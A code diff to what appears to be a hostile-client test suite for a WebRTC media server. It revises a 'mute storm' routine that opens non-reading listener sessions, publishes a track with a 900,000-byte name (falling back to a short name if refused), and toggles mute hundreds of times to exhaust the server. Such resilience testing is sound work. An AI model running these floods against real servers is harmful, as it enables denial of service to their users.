@@ -124,17 +124,19 @@ class HostileSignal:
 
     async def wait_for(
         self,
-        kind: str,
+        kind: str | tuple[str, ...],
         match: Callable[[rtc.SignalResponse], bool] = lambda _r: True,
         *,
         timeout_s: float = WAIT_S,
         start: int = 0,
     ) -> rtc.SignalResponse | None:
-        """The first kept response of `kind` (from index `start`) that `match`es, or None."""
+        """The first kept response of `kind` (or of one of the kinds, from index `start`) that
+        `match`es, or None."""
+        kinds = (kind,) if isinstance(kind, str) else kind
         deadline = time.monotonic() + timeout_s
         while True:
             for response in self.kept[start:]:
-                if response.WhichOneof("message") == kind and match(response):
+                if response.WhichOneof("message") in kinds and match(response):
                     return response
             remaining = deadline - time.monotonic()
             if remaining <= 0 or self.client.closed_reason:
@@ -284,40 +286,68 @@ async def huge_track_name_mute_storm(
     url: str, mint: Mint, *, listeners: int = 20, toggles: int = 200, name_bytes: int = 900_000
 ) -> AttackResult:
     """(10) `listeners` sessions that never read; a track named with `name_bytes` bytes is
-    published (ICE-less offer) and muted/unmuted `toggles` times."""
+    published (ICE-less offer) and muted/unmuted `toggles` times. An SFU that refuses the name
+    (notes ``name_refused``) gets the storm on a track with a short name instead, so the
+    listeners are still sent every mute."""
     result = AttackResult("huge_trackinfo_mute_storm")
     sockets: list[ClientConnection] = []
     signal = HostileSignal(url, mint("hostile-namer"))
     start = time.monotonic()
+
+    async def answer_to(cid: str) -> rtc.SignalResponse | None:
+        def published_or_refused(response: rtc.SignalResponse) -> bool:
+            if response.HasField("track_published"):
+                return response.track_published.cid == cid
+            return response.request_response.add_track.cid == cid
+
+        kinds = ("track_published", "request_response")
+        return await signal.wait_for(kinds, published_or_refused, timeout_s=10)
+
     try:
         for n in range(listeners):
             sockets.append(await silent_listener(url, mint(f"hostile-deaf-{n}")))
         await signal.join()
         name = "N" * name_bytes
-        request = rtc.AddTrackRequest(cid="huge", name=name, type=models.TrackType.AUDIO)
-        await signal.send(add_track=request)
-        published = await signal.wait_for("track_published", timeout_s=10)
-        if published is None:
+        await signal.send(
+            add_track=rtc.AddTrackRequest(cid="huge", name=name, type=models.TrackType.AUDIO)
+        )
+        answer = await answer_to("huge")
+        if answer is not None and answer.HasField("request_response"):
+            result.notes["name_refused"] = answer.request_response.message
+            await signal.send(
+                add_track=rtc.AddTrackRequest(cid="short", name="N", type=models.TrackType.AUDIO)
+            )
+            answer = await answer_to("short")
+        if answer is None or not answer.HasField("track_published"):
             result.notes["published"] = False
             return result
-        sid = published.track_published.track.sid
-        sdp = offer_sdp(fake_local(), [audio_section("huge")], candidates=[])
+        track = answer.track_published.track
+        result.notes["name_len_echoed"] = len(track.name)
+        sdp = offer_sdp(fake_local(), [audio_section(answer.track_published.cid)], candidates=[])
         await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
         await signal.wait_for("answer", timeout_s=10)
         for n in range(toggles):
-            await signal.send(mute=rtc.MuteTrackRequest(sid=sid, muted=n % 2 == 0))
+            await signal.send(mute=rtc.MuteTrackRequest(sid=track.sid, muted=n % 2 == 0))
             result.sent += 1
             await asyncio.sleep(0.005)
         await asyncio.sleep(1.0)
-        result.notes["name_len_echoed"] = len(published.track_published.track.name)
     finally:
         result.elapsed_s = time.monotonic() - start
         result.absorb(signal)
         await signal.close()
-        for ws in sockets:
-            with contextlib.suppress(Exception):
-                await asyncio.wait_for(ws.close(), 2)
+        await _close_all(sockets)
     return result
+
+
+async def _close_all(sockets: list[ClientConnection]) -> None:
+    """Close every WebSocket at once, each given 2 s (a listener that never read may not
+    finish its closing handshake)."""
+
+    async def close(ws: ClientConnection) -> None:
+        with contextlib.suppress(Exception):
+            await asyncio.wait_for(ws.close(), 2)
+
+    await asyncio.gather(*(close(ws) for ws in sockets))
 
 
 async def track_count_flood(
